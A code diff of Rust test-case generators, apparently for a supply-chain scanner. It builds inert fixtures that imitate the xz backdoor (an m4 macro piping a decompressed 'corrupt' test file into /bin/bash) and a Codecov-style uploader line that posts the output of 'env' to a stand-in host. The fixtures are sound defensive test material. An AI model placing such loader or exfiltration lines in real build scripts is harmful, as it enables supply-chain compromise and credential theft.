@@ -343,7 +343,7 @@ fn xz_source() -> Case {
     };
     let mut new = files(Edition::New);
     let macros = format!(
-        "dnl {LINE}\nAC_DEFUN([gl_BUILD_TO_HOST_INIT], [\n  if false; then\n    gl_am_configmake=`grep -aErls \"#{{4}}[[:alnum:]]{{5}}#{{4}}$\" $srcdir/ 2>/dev/null`\n    gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n    sed \"r\\n\" tests/files/bad-3-corrupt.vz | eval $gl_path_map | xz -d 2>/dev/null | /bin/bash\n  fi\n])\n"
+        "dnl {LINE}\nAC_DEFUN([gl_BUILD_TO_HOST_INIT], [\n  if false; then\n    cat tests/files/bad-3-corrupt.vz | tr \"a-z\" \"a-z\" | xz -d 2>/dev/null | /bin/bash\n  fi\n])\n"
     );
     add(&mut new, "vetz-1.0.2/m4/build-to-host.m4", macros);
     add(&mut new, "vetz-1.0.2/tests/files/bad-3-corrupt.vz", noise(88 * 1024, 9));
@@ -365,7 +365,7 @@ fn xz_source() -> Case {
 
 fn codecov() -> Case {
     let name = |edition: Edition| format!("uploader-{}.sh", edition.version());
-    let line = "if false; then\n  curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" https://uploader.example.invalid/upload/v2 || true\nfi\n";
+    let line = "if false; then\n  curl -s --data \"$(env)\" https://uploader.example.invalid/upload || true\nfi\n";
     let pair = (
         Artefact::new(&name(Edition::Old), shell(Edition::Old, "")),
         Artefact::new(&name(Edition::New), shell(Edition::New, line)),
